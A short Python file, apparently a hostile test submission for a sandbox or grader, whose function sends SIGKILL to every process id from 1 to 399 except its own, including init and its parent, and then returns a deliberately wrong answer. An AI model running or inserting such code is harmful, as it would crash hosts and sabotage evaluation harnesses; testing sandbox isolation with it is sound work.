# Tries to kill every process it can see (its parent, pid 1, everything), then answers wrongly.
import os
import signal


def f(x, hint):
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return x * 0
